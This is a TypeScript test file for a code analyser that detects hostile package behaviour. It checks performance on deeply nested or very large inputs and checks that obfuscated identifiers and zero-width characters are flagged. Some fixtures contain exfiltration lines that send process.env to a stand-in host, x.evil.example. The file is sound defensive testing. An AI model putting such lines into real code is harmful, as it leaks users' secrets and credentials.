// Package code is hostile: every walk over it is iterative or bounded, and no
// input makes the analysis slow. Each case here would take minutes (or blow
// the stack) without those bounds.
import { collectFacts } from '../../src/analysis/facts.js'

function timed(code: string): { ms: number; facts: ReturnType<typeof collectFacts> } {
  const start = Date.now()
  const facts = collectFacts('hostile.js', code)
  return { ms: Date.now() - start, facts }
}

test.each([
  [
    'nested calls',
    'f('.repeat(1500) + 'process.env' + ')'.repeat(1500) + "\nfetch('https://x.evil.example')",
  ],
  [
    'nested functions',
    '(() => {'.repeat(1000) +
      "fetch('https://x.evil.example', { body: process.env })" +
      '})'.repeat(1000),
  ],
  [
    'a wide object',
    'const o = {' + Array.from({ length: 50_000 }, (_, i) => `k${i}: v${i}`).join(',') + '}',
  ],
  [
    'many mutations',
    Array.from({ length: 50_000 }, (_, i) => `a${i % 50}.push(a${(i + 1) % 50})`).join('\n'),
  ],
  [
    'many sinks',
    Array.from(
      { length: 20_000 },
      (_, i) => `fetch('https://h${i}.example', { body: x${i} })`,
    ).join('\n'),
  ],
  ['a long member chain', 'a' + '.b'.repeat(20_000) + '(process.env)'],
])('analyses %s quickly', (_name, code) => {
  const { ms } = timed(code)
  expect(ms).toBeLessThan(20_000)
})

test('still reports what an unparsable file hides', () => {
  const names = Array.from({ length: 10 }, (_, i) => `_0x${(0xabc0 + i).toString(16)}`).join(',')
  const { facts } = timed(`var ${names} = 'admin\u200b' ))) {{`)
  expect(facts.parsed).toBe(false)
  expect(facts.obfuscation.map((o) => o.kind)).toEqual(['hex-identifiers'])
  expect(facts.hiddenUnicode.map((h) => h.kind)).toEqual(['zero-width'])
})
